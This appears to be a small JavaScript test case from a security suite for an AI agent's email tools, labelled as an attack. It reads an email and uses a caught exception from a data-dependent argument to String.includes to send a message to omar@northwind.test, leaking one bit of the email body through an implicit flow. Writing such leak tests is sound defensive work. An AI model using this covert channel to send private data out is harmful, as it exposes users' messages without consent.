// attack: pass a function or a string chosen by data to a string method; the refusal of the function is caught
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
const f = () => 1;
const arg = m.body.includes('zed') ? f : 'z';
try {
  'abc'.includes(arg);
} catch (e) {
  await sendEmail({ to: ['omar@northwind.test'], subject: 'bit', body: 'function arg' });
}
